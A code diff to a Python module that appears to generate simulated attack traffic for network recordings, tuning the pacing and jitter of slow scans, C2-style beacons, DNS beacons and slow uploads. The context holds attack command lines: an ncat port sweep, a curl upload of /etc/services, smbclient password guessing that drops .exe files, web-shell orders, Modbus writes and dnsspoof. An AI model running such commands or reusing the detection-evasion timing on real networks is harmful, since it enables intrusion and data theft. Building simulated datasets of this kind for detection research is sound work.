@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import math
 import random
 import string
 from collections.abc import Callable, Iterator
@@ -31,6 +32,9 @@ ORDERS = (
     "df -h",
     "ls -laR /usr/share/doc/ncat",
 )
+MOST = 800  # occasions of one slow attack, and FEWEST, whatever its pace
+FEWEST = 12
+START = 1.5  # seconds between occasions below which no program is started for each
 Plan = Callable[[Occasion, Attack, float], Iterator[Step]]  # the last one: seconds that it may last
 
 
@@ -52,13 +56,14 @@ def host_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 
 def slow_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
-    """One port now and then: below every rate threshold."""
+    """One port now and then, every ten seconds to ten minutes of a day: below every rate threshold."""
     targets = [h.address for h in o.world.hosts if h.inside and h.name != o.actor.host]
     ports = (21, 22, 23, 25, 80, 110, 139, 143, 389, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080)
-    after = 0.0
+    after, mean = 0.0, _pause(o, attack, lasts, 10.0, 600.0, 5.0)
     while after < lasts:
-        yield o.knock("slow-scan", o.rng.choice(targets), o.rng.choice(ports), after=after, wait=2.0)
-        after += o.rng.uniform(2.0, 8.0) / attack.pace
+        knock = o.knock("slow-scan", o.rng.choice(targets), o.rng.choice(ports), after=after, wait=2.0)
+        yield replace(knock, apart=True)
+        after += mean * o.rng.uniform(0.4, 1.6)
 
 
 def ssh_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
@@ -159,11 +164,12 @@ def dns_tunnel(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 
 def _beacon(o: Occasion, attack: Attack, lasts: float, scheme: str) -> Iterator[Step]:
-    """Asks for orders at intervals with jitter; now and then an answer goes back."""
+    """Asks for orders at intervals (10 s to 1 h of a day) with jitter (0 to 80 %); now and then an answer goes back."""
     site = o.rented()
-    mean = 5.0 / attack.pace
+    mean = _pause(o, attack, lasts, 10.0, 3600.0, 5.0)
+    jitter = o.rng.uniform(0.0, 0.8) if o.squeeze > 1 else 0.3
     after, number, held = 0.0, 0, o.rng.randrange(4)
-    by_program, apart = o.by_program(), o.rng.random() < 0.4
+    by_program, apart = o.by_program() and mean >= START, o.rng.random() < 0.4
     url = f"{scheme}://{site}/{o.rng.choice(('a0', 'a1', 'p3.html'))}"
     while after < lasts:
         request: Request = {"url": url}
@@ -172,15 +178,20 @@ def _beacon(o: Occasion, attack: Attack, lasts: float, scheme: str) -> Iterator[
             request |= {"method": "POST", "body": f"r={result}"}
         else:
             request["headers"] = {"Cookie": f"id={o.rng.getrandbits(128):032x}"}
-        yield o.web(attack.kind, request, after=after, by_program=by_program, apart=apart)
-        if number == held or o.rng.random() < 0.08:  # kept open in case that somebody wants a shell at once
-            yield _channel(o, attack, site, scheme, after + 0.5)
-        after, number = after + mean * o.rng.uniform(0.7, 1.3), number + 1
+        yield replace(
+            o.web(attack.kind, request, after=after, by_program=by_program, apart=apart), apart=True
+        )
+        if number == held or o.rng.random() < min(
+            0.08, 2.0 / (lasts / mean)
+        ):  # kept open for a shell at once
+            yield replace(_channel(o, attack, site, scheme, after + 0.5), apart=True)
+        after, number = after + mean * (1.0 + jitter * o.rng.uniform(-1.0, 1.0)), number + 1
 
 
 def _channel(o: Occasion, attack: Attack, site: str, scheme: str, after: float) -> Step:
     """Where the server speaks WebSocket one is held and used for a while, elsewhere a connection is just not closed."""
-    if scheme == "https" and any(site in host.sites for host in o.world.offering("api")):
+    serving = o.world.serving(site)
+    if scheme == "https" and serving is not None and "api" in serving.services:
         seconds = o.rng.randrange(10, 240)
         return replace(chat_with(o, site, seconds), at=round(o.at + after, 3), what=attack.kind)
     used = {"port": 443} if scheme == "https" else {"port": 80, "path": "/a0"}
@@ -198,12 +209,17 @@ def beacon_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 def dns_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Orders asked for in host names."""
     domain = o.rented().split(".", 1)[1]
-    by_program = o.by_program()
+    mean = _pause(o, attack, lasts, 10.0, 600.0, 4.5)
+    jitter = o.rng.uniform(0.0, 0.8) if o.squeeze > 1 else 0.3
+    by_program = o.by_program() and mean >= START
     after = 0.0
     while after < lasts:
         name = f"{''.join(o.rng.choices('abcdefghijklmnopqrstuvwxyz234567', k=o.rng.randrange(12, 32)))}.{domain}"
-        yield o.look_up("dns-beacon", (name, o.rng.choice(("A", "TXT"))), after=after, by_program=by_program)
-        after += o.rng.uniform(3.0, 6.0) / attack.pace
+        asked = o.look_up(
+            "dns-beacon", (name, o.rng.choice(("A", "TXT"))), after=after, by_program=by_program
+        )
+        yield replace(asked, apart=True)
+        after += mean * (1.0 + jitter * o.rng.uniform(-1.0, 1.0))
 
 
 def upload_tls(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
@@ -215,13 +231,15 @@ def upload_tls(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 def slow_upload(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """A little at a time."""
     site = o.rented()
-    after, number = 0.0, 0
-    by_program = o.by_program()
+    after, number, mean = 0.0, 0, _pause(o, attack, lasts, 60.0, 900.0, 10.0)
+    by_program = o.by_program() and mean >= START
     while after < lasts:
         piece = {"method": "PUT", "file": o.world.file(o.rng.choice((4, 16)))}
         url = f"https://{site}/files/b{number % 9}"
-        yield o.web("slow-upload", {"url": url, **piece}, after=after, by_program=by_program)
-        after, number = after + o.rng.uniform(6.0, 14.0) / attack.pace, number + 1
+        yield replace(
+            o.web("slow-upload", {"url": url, **piece}, after=after, by_program=by_program), apart=True
+        )
+        after, number = after + mean * o.rng.uniform(0.6, 1.4), number + 1
 
 
 def _pieces(o: Occasion, attack: Attack, lasts: float, url: str) -> Iterator[Step]:
@@ -259,6 +277,19 @@ def udp_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     yield _as_root(
         o.step("udp-scan", *fixed, str(int(40 * attack.pace)), o.targets()[0].address, limit=lasts)
     )
+
+
+def _pause(o: Occasion, attack: Attack, lasts: float, least: float, most: float, usual: float) -> float:
+    """The mean pause of a patient attack, in seconds of the recording.
+
+    A recording that stands for a day: so that the day's pauses lie between `least` and `most` seconds, whatever the
+    scenario's pace, as far as the attack then has occasions enough and not too many. Else the `usual` one.
+    """
+    if o.squeeze <= 1.0:
+        return usual / attack.pace
+    most = max(least, min(most, lasts * o.squeeze / FEWEST))
+    day = math.exp(o.rng.uniform(math.log(least), math.log(most)))
+    return max(day / o.squeeze, lasts / MOST, 0.2)
 
 
 def _as_root(step: Step) -> Step:
@@ -349,7 +380,8 @@ def lateral_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
             f"for p in 22 80 445 3306 5432; do ncat -z -w 1 {second} $p; done",
             f"curl -s -m 9 -T /etc/services http://{second}/x; ssh {second} uptime",
         ))  # fmt: skip
-        yield o.step("lateral-ssh", "ssh", f"{o.actor.name}@{first}", order, after=after, limit=40)
+        moved = o.step("lateral-ssh", "ssh", f"{o.actor.name}@{first}", order, after=after, limit=40)
+        yield replace(moved, apart=True)
         if (
             number == stays or o.rng.random() < 0.08
         ):  # and a terminal left open, in which something is looked at now and then
@@ -357,9 +389,8 @@ def lateral_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
                 f"for n in $(seq {o.rng.randrange(5, 60)}); do uptime; sleep {o.rng.randrange(2, 12)}; done"
             )
             keep = ("-o", "ServerAliveInterval=15", "-o", "ServerAliveCountMax=3")
-            yield o.step(
-                "lateral-ssh", "ssh", *keep, f"{o.actor.name}@{second}", stay, after=after, limit=400
-            )
+            stays_on = ("ssh", *keep, f"{o.actor.name}@{second}", stay)
+            yield replace(o.step("lateral-ssh", *stays_on, after=after, limit=400), apart=True)
         after, number = after + o.rng.uniform(4.0, 15.0) / attack.pace, number + 1
 
 
@@ -374,17 +405,8 @@ def lateral_smb(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
         name = o.rng.choice(people)
         word = o.world.password(name) if o.rng.random() < 0.3 else f"Winter{o.rng.randrange(2020, 2027)}"
         order = o.rng.choice(("ls", f"put {o.world.file(16)} svc{o.rng.randrange(99)}.exe", "recurse; ls"))
-        yield o.step(
-            "lateral-smb",
-            "smbclient",
-            f"//{host.address}/public",
-            "-U",
-            f"{name}%{word}",
-            "-c",
-            order,
-            after=after,
-            limit=20,
-        )
+        tried = ("smbclient", f"//{host.address}/public", "-U", f"{name}%{word}", "-c", order)
+        yield replace(o.step("lateral-smb", *tried, after=after, limit=20), apart=True)
         after += o.rng.uniform(1.0, 6.0) / attack.pace
 
 
@@ -406,7 +428,7 @@ def web_shell(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
         filler = "".join(o.rng.choices(string.ascii_letters, k=o.rng.choice((0, 0, 60, 1500))))
         url = f"{o.rng.choice(('https', 'http'))}://{site}/api/files/{name}"
         request = {"url": url, "method": "POST", "body": f"z0={quote(order, safe='')}&z1={filler}"}
-        yield o.web("web-shell", request, after=after, by_program=by_program)
+        yield replace(o.web("web-shell", request, after=after, by_program=by_program), apart=True)
         after += o.rng.lognormvariate(1.2, 0.7) / attack.pace
 
 
@@ -423,7 +445,7 @@ def modbus_writes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
             "0.2",
             str(o.rng.random()),
         )
-        yield o.step("modbus-writes", *argv, after=after, limit=30)
+        yield replace(o.step("modbus-writes", *argv, after=after, limit=30), apart=True)
         after += o.rng.uniform(4.0, 20.0) / attack.pace
 
 
@@ -440,10 +462,11 @@ def junk_bytes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
             flags = words(o.rng.choice(("-F -P -U", "-S -F", "-A -R")))
             ports = ("-s", str(o.rng.randrange(32_768, 60_000)), "-p", port)
             argv = (*words("hping3 -q -n --ttl 64 -w 64240 -c 3"), *flags, *ports, host.address)
-            yield _as_root(o.step("junk-bytes", *argv, after=after))
+            yield replace(_as_root(o.step("junk-bytes", *argv, after=after)), apart=True)
         else:
             junk = "".join(chr(o.rng.randrange(1, 256)) for _ in range(int(o.rng.lognormvariate(4, 1.5)) + 1))
-            yield o.step("junk-bytes", "ncat", "-w", "2", host.address, port, after=after, feed=junk)
+            sent = o.step("junk-bytes", "ncat", "-w", "2", host.address, port, after=after, feed=junk)
+            yield replace(sent, apart=True)
         after += o.rng.uniform(0.5, 4.0) / attack.pace
 
 
@@ -473,7 +496,7 @@ def dns_spoofing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     filter_ = f"udp dst port 53 and not src host {here.address}"
     yield _as_root(o.step("dns-spoofing", "dnsspoof", "-i", "eth0", "-f", str(names), filter_, limit=lasts))
     if "web" not in here.services:
-        site = o.rented()
+        site = o.world.sites(inside=False)[0]
         tls, page = o.world.run.state / "tls", o.world.run.state / "www" / site
         secure = (
             "-accept",
@@ -503,7 +526,7 @@ def padded_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """A beacon that hides its regularity: sizes padded at random, pages varied, long sleeps between short bursts."""
     site = o.rented()
     by_program, scheme = o.by_program(), o.rng.choice(("https", "https", "http"))
-    after = 0.0
+    after, mean = 0.0, _pause(o, attack, lasts, 120.0, 1800.0, 20.0)
     while after < lasts:
         for _ in range(o.rng.randrange(1, 5)):
             part = o.rng.choice((f"p{o.rng.randrange(PAGES)}.html", f"a{o.rng.randrange(4)}"))
@@ -513,9 +536,10 @@ def padded_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
                 request |= {"method": "POST", "body": f"q={junk}"}
             else:
                 request["headers"] = {"X-Request-Id": junk[:900]}
-            yield o.web("padded-beacon", request, after=after, by_program=by_program)
-            after += o.rng.lognormvariate(0.0, 0.8)
-        after += o.rng.expovariate(attack.pace / 20)
+            ask = o.web("padded-beacon", request, after=after, by_program=by_program)
+            yield replace(ask, apart=True)
+            after += o.rng.lognormvariate(0.0, 0.8) * min(1.0, mean / 4.0)
+        after += o.rng.expovariate(1.0 / mean)
 
 
 def padded_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
